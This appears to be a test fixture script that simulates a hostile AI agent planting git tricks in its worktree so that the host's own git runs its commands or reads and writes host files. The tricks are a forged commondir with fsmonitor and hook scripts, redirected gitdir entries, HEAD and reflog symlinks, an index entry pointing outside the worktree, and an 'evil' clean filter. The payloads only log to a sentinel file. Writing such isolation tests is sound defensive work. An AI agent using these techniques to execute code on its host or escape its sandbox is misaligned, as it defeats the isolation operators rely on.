/**
 * A hostile agent's git tricks, for tests/hostile_agent_git_test.ts: run in an agent's worktree
 * (inside its container, or as a host process) as `deno run -A hostile_git.ts <trick> <json>`,
 * it plants what would make the host's own git run a command, write a file or read one outside
 * the worktree. Every planted command appends a line to `<sentinel>/ran` — a host directory
 * that is never mounted into a container, so a line there means the host ran it.
 *
 * Only `node:` built-ins: the agent image has no network and no module cache.
 */
import { createHash } from "node:crypto";
import { dirname, join, relative, resolve } from "node:path";

/** What a trick needs to know about the host (the test passes it in). */
export interface Bait {
  /** Host directory the planted commands write to. */
  sentinel: string;
  /** A host file a trick tries to append to (logs) or read (index). */
  victim?: string;
}

const [trick, json] = Deno.args;
const bait = JSON.parse(json ?? "{}") as Bait;
const worktree = Deno.cwd();
const admin = /^gitdir: (.+)$/m.exec(Deno.readTextFileSync(join(worktree, ".git")))![1].trim();
const common = resolve(admin, "../..");

/** A shell script that records that it ran (on the host only: `sentinel` is not mounted). */
function payload(tag: string, then = "exit 0"): string {
  return `#!/bin/sh\necho "${tag} $*" >> ${bait.sentinel}/ran 2>/dev/null\n${then}\n`;
}

function writeExec(path: string, text: string): void {
  Deno.mkdirSync(dirname(path), { recursive: true });
  Deno.writeTextFileSync(path, text);
  Deno.chmodSync(path, 0o755);
}

function git(...args: string[]): string {
  const out = new Deno.Command("git", { args, stdout: "piped", stderr: "inherit" }).outputSync();
  return new TextDecoder().decode(out.stdout).trim();
}

function replace(path: string, text: string): void {
  try {
    Deno.removeSync(path, { recursive: true });
  } catch { /* not there */ }
  Deno.writeTextFileSync(path, text);
}

function symlink(target: string, path: string): void {
  try {
    Deno.removeSync(path, { recursive: true });
  } catch { /* not there */ }
  Deno.mkdirSync(dirname(path), { recursive: true });
  Deno.symlinkSync(target, path);
}

/** Hooks that run on `git add`, `git commit` and ref updates even with `--no-verify`. */
const HOOKS = [
  "pre-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "reference-transaction",
  "post-index-change",
  "post-checkout",
];

/** A git directory of the agent's own: config that runs commands, hooks, the real objects. */
function fakeGitDir(dir: string, head: string, refs: Record<string, string>): void {
  Deno.mkdirSync(join(dir, "objects", "info"), { recursive: true });
  Deno.writeTextFileSync(
    join(dir, "objects", "info", "alternates"),
    join(common, "objects") + "\n",
  );
  writeExec(join(dir, "fsmonitor"), payload("fsmonitor", "exit 1"));
  for (const hook of HOOKS) writeExec(join(dir, "hooks", hook), payload(hook));
  Deno.writeTextFileSync(
    join(dir, "config"),
    "[core]\n\trepositoryformatversion = 0\n\tbare = false\n" +
      `\tfsmonitor = ${join(dir, "fsmonitor")}\n\thooksPath = ${join(dir, "hooks")}\n`,
  );
  Deno.writeTextFileSync(join(dir, "HEAD"), head + "\n");
  for (const [ref, oid] of Object.entries(refs)) {
    Deno.mkdirSync(dirname(join(dir, ref)), { recursive: true });
    Deno.writeTextFileSync(join(dir, ref), oid + "\n");
  }
}

/** Index v2 bytes holding `entries` (mode, blob id, path), sorted and checksummed as git does. */
function indexBytes(entries: { mode: number; oid: string; path: string }[]): Uint8Array {
  const enc = new TextEncoder();
  const parts: Uint8Array[] = [];
  const header = new DataView(new ArrayBuffer(12));
  header.setUint32(0, 0x44495243); // "DIRC"
  header.setUint32(4, 2);
  header.setUint32(8, entries.length);
  parts.push(new Uint8Array(header.buffer));
  const sorted = [...entries].sort((a, b) => compareBytes(enc.encode(a.path), enc.encode(b.path)));
  for (const e of sorted) {
    const name = enc.encode(e.path);
    const fixed = new DataView(new ArrayBuffer(62));
    fixed.setUint32(24, e.mode); // ctime, mtime, dev, ino zero: git re-reads the file
    new Uint8Array(fixed.buffer).set(hexBytes(e.oid), 40);
    fixed.setUint16(60, Math.min(name.length, 0xfff));
    const length = 62 + name.length;
    const padded = new Uint8Array(Math.ceil((length + 1) / 8) * 8);
    padded.set(new Uint8Array(fixed.buffer));
    padded.set(name, 62);
    parts.push(padded);
  }
  const body = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    body.set(p, at);
    at += p.length;
  }
  const sum = createHash("sha1").update(body).digest();
  const out = new Uint8Array(body.length + sum.length);
  out.set(body);
  out.set(sum, body.length);
  return out;
}

function compareBytes(a: Uint8Array, b: Uint8Array): number {
  for (let i = 0; i < Math.min(a.length, b.length); i++) if (a[i] !== b[i]) return a[i] - b[i];
  return a.length - b.length;
}

function hexBytes(hex: string): Uint8Array {
  return new Uint8Array(hex.match(/../g)!.map((h) => parseInt(h, 16)));
}

switch (trick) {
  case "commondir": {
    // Its own git directory, named by the worktree's `commondir`: the host's next git in the
    // worktree would read its config (fsmonitor, hooksPath) and borrow the real objects.
    const head = Deno.readTextFileSync(join(admin, "HEAD")).trim();
    const fake = join(worktree, ".fake-git");
    fakeGitDir(fake, head, { [head.slice(5)]: git("rev-parse", "HEAD") });
    replace(join(admin, "commondir"), fake + "\n");
    break;
  }
  case "gitdir": {
    // A checkout of the target branch at a path the service never made, in the listing every
    // landing reads (`git worktree list`): its `.git` file points back, so it looks real.
    const decoy = join(worktree, "decoy");
    Deno.mkdirSync(decoy, { recursive: true });
    Deno.writeTextFileSync(join(decoy, ".git"), `gitdir: ${admin}\n`);
    replace(join(admin, "gitdir"), join(decoy, ".git") + "\n");
    replace(join(admin, "HEAD"), "ref: refs/heads/main\n");
    break;
  }
  case "gate-gitdir": {
    // From a gate's container: its tree's entry claims the repository's own checkout, on the
    // target branch; if it outlived the gate, every later landing would see two checkouts.
    replace(join(admin, "gitdir"), join(dirname(common), ".git") + "\n");
    replace(join(admin, "HEAD"), "ref: refs/heads/main\n");
    replace(join(admin, "locked"), "kept\n"); // so `git worktree prune` keeps the entry
    break;
  }
  case "head-symlink":
    // HEAD as a link to the target branch's ref file: whoever rewrites HEAD writes main.
    symlink(join(common, "refs", "heads", "main"), join(admin, "HEAD"));
    break;
  case "logs-symlink":
    // The worktree's HEAD reflog as a link to a host file: every commit appends a line to it.
    symlink(bait.victim!, join(admin, "logs", "HEAD"));
    break;
  case "index": {
    // An index entry outside the worktree: `git add -A` would read that host file and commit it.
    const entries = git("ls-files", "-s", "-z").split("\0").filter(Boolean).map((l) => {
      const [meta, path] = l.split("\t");
      const [mode, oid] = meta.split(" ");
      return { mode: parseInt(mode, 8), oid, path };
    });
    const outside = relative(worktree, bait.victim!);
    entries.push({
      mode: 0o100644,
      oid: "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391",
      path: outside,
    });
    Deno.writeFileSync(join(admin, "index"), indexBytes(entries));
    break;
  }
  case "attributes":
    // The tree picks a filter and a diff driver the repository's configuration defines.
    Deno.writeTextFileSync(
      join(worktree, ".gitattributes"),
      "*.txt filter=demo diff=demo merge=demo\n",
    );
    break;
  case "config-worktree": {
    // The worktree's own configuration, as a gate's or a teardown's container could write it.
    writeExec(join(worktree, ".x", "fsmonitor"), payload("fsmonitor", "exit 1"));
    for (const hook of HOOKS) writeExec(join(worktree, ".x", "hooks", hook), payload(hook));
    writeExec(join(worktree, ".x", "clean"), payload("clean", "cat"));
    replace(
      join(admin, "config.worktree"),
      `[core]\n\tfsmonitor = ${join(worktree, ".x", "fsmonitor")}\n` +
        `\thooksPath = ${join(worktree, ".x", "hooks")}\n` +
        `[filter "evil"]\n\tclean = ${join(worktree, ".x", "clean")}\n\trequired = true\n`,
    );
    Deno.writeTextFileSync(join(worktree, ".gitattributes"), "* filter=evil\n");
    break;
  }
  default:
    throw new Error(`unknown trick ${trick}`);
}
console.log(`planted ${trick}`);
